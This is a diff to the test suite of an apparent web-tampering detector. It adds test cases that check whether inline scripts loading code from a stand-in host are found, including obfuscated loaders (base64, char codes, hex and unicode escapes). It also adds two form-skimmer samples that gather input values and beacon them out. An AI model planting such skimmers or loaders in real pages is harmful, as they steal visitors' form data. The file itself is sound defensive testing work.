@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from selectolax.lexbor import LexborHTMLParser
 
 from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
-from tamperwatch.detect.inline_loads import inline_loads
+from tamperwatch.detect.inline_loads import ENCODED, PLAIN, SKIMMER, inline_loads
 
 from .synthetic import news_page, page
 from .test_foreign_injection import rotating_part, trusted_part
@@ -19,28 +19,44 @@ EVIL = "https://stats.example-analytics.net/t.js"
 CODES = ",".join(str(ord(c)) for c in EVIL)
 B64 = base64.b64encode(EVIL.encode()).decode()
 ESCAPED = "".join(f"%{ord(c):02x}" for c in EVIL)
+HEX = "".join(f"\\x{ord(c):02x}" for c in EVIL)  # '\x68\x74...' as written in the script
+UNI = "".join(f"\\u{ord(c):04x}" for c in EVIL)
 
 
-def loads(script: str) -> list[tuple[str, bool]]:
+def loads(script: str) -> list[tuple[str, str]]:
     return inline_loads(LexborHTMLParser(f"<html><body>{script}</body></html>"))
 
 
 @pytest.mark.parametrize(
-    ("script", "obfuscated"),
+    ("script", "how"),
     [
         (
             f'<script>var s=document.createElement("script");s.src="{EVIL}";document.body.append(s)</script>',
-            False,
+            PLAIN,
         ),
-        (f"<script>s.setAttribute('src', '{EVIL}')</script>", False),
-        (f"<script>document.write('<script src=\\\"{EVIL}\\\"><\\/script>')</script>", False),
-        (f'<script>var u=atob("{B64}");var s=document.createElement("script");s.src=u;</script>', True),
-        (f"<script>var u=String.fromCharCode({CODES});</script>", True),
-        (f"<script>document.write(unescape('{ESCAPED}'))</script>", True),
+        (f"<script>s.setAttribute('src', '{EVIL}')</script>", PLAIN),
+        (f"<script>document.write('<script src=\\\"{EVIL}\\\"><\\/script>')</script>", PLAIN),
+        (f'<script>var u=atob("{B64}");var s=document.createElement("script");s.src=u;</script>', ENCODED),
+        (f"<script>var u=String.fromCharCode({CODES});</script>", ENCODED),
+        (f"<script>document.write(unescape('{ESCAPED}'))</script>", ENCODED),
+        (f"<script>document.write(decodeURIComponent('{ESCAPED}'))</script>", ENCODED),
+        (f"<script>var k=document.createElement('script');k['src']='{HEX}';</script>", ENCODED),
+        (f"<script>var k=document.createElement('script');k.src='{UNI}';</script>", ENCODED),
+        (
+            "<script>document.addEventListener('submit',function(e){var d={};"
+            "e.target.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
+            f"navigator.sendBeacon('{EVIL}',JSON.stringify(d))}},true)</script>",
+            SKIMMER,
+        ),
+        (
+            "<script>var q=[];document.querySelectorAll('form input').forEach(function(i){q.push(i.value)});"
+            f"new Image().src='{EVIL}?d='+q.join(',')</script>",
+            SKIMMER,
+        ),
     ],
 )
-def test_the_address_an_inline_script_loads_from_is_found(script: str, obfuscated: bool) -> None:
-    assert (EVIL, obfuscated) in loads(script)
+def test_the_address_an_inline_script_loads_from_is_found(script: str, how: str) -> None:
+    assert any(url.startswith(EVIL) and found == how for url, found in loads(script)), loads(script)
 
 
 def test_data_and_external_scripts_are_not_read_as_inline_code() -> None:
@@ -52,6 +68,16 @@ def test_data_and_external_scripts_are_not_read_as_inline_code() -> None:
 @given(st.text(alphabet="atob(fromCharCode)unescape%src=\"'`/:.,0123456789aZ+ ", max_size=300))
 def test_any_inline_code_is_read_without_raising(code: str) -> None:
     assert isinstance(loads(f"<script>{code}</script>"), list)
+
+
+def test_a_skimmer_is_strong_evidence_even_where_vendors_rotate() -> None:
+    det = ForeignInjectionDetector()
+    script = (
+        "<script>var q=[];document.querySelectorAll('form input').forEach(function(i){q.push(i.value)});"
+        f"new Image().src='{EVIL}?d='+q.join(',')</script>"
+    )
+    [finding] = det.detect(rotating_part(det), page(news_page(9, body_extra=script)))
+    assert finding.score >= 0.5 and "skimmer" in finding.reason
 
 
 def test_an_obfuscated_loader_from_an_unseen_origin_is_content_evidence_with_a_reason() -> None:
